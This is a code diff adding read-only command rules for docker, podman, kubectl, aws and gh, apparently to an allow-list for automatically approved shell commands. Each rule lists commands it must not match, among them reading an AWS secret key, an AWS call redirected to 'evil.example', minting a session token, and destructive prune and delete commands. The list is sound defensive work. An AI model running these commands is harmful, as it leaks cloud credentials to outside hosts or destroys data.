@@ -63,4 +63,79 @@ export const services: readonly StarterRule[] = [
     changes: 'nothing',
     examples: { match: ['helm list'], noMatch: ['helm upgrade a b'] },
   },
+  {
+    name: 'container-words',
+    why: 'They list images, volumes, networks and containers, and how an image was made.',
+    pattern: '{docker,podman}',
+    args: [
+      ['image', 'container', 'volume', 'network', 'context', 'builder'],
+      ['ls', 'list', 'history', 'top', 'port', 'stats'],
+      '...',
+    ],
+    only: 'reads',
+    changes: 'nothing',
+    examples: {
+      match: ['docker image ls', 'docker volume ls -q'],
+      noMatch: ['docker image rm x', 'docker volume prune', 'docker container inspect x'],
+    },
+  },
+  {
+    name: 'image-history',
+    why: 'It says how an image was made.',
+    pattern: '{docker,podman}',
+    args: ['history', '...'],
+    only: 'reads',
+    changes: 'nothing',
+    examples: { match: ['docker history app'], noMatch: ['docker rmi app'] },
+  },
+  {
+    name: 'cluster-rights',
+    why: 'They say what one may do in the cluster, and where it is.',
+    pattern: 'kubectl',
+    args: [['auth', 'cluster-info'], ['can-i', 'whoami'], '...'],
+    only: 'reads',
+    changes: 'nothing',
+    examples: {
+      match: ['kubectl auth can-i list pods'],
+      noMatch: [
+        'kubectl auth reconcile -f x.yaml',
+        'kubectl cluster-info dump --output-directory=x',
+      ],
+    },
+  },
+  {
+    name: 'cloud-login',
+    why: 'It says as whom one is logged in, and which profiles there are.',
+    pattern: 'aws',
+    args: [
+      ['sts', 'configure'],
+      ['get-caller-identity', 'list-profiles', 'list'],
+    ],
+    only: 'reads',
+    changes: 'nothing',
+    examples: {
+      match: ['aws sts get-caller-identity', 'aws configure list-profiles'],
+      noMatch: [
+        'aws sts get-session-token',
+        'aws configure get aws_secret_access_key',
+        'aws sts get-caller-identity --endpoint-url http://evil.example',
+      ],
+    },
+  },
+  {
+    name: 'github-more',
+    why: 'They search GitHub, and list labels, caches and what waits.',
+    pattern: 'gh',
+    args: [
+      ['search', 'label', 'cache', 'milestone', 'project'],
+      ['prs', 'issues', 'repos', 'commits', 'list'],
+      '...',
+    ],
+    only: 'reads',
+    changes: 'nothing',
+    examples: {
+      match: ['gh search issues x', 'gh label list'],
+      noMatch: ['gh label delete x', 'gh cache delete --all', 'gh secret list', 'gh search code x'],
+    },
+  },
 ];
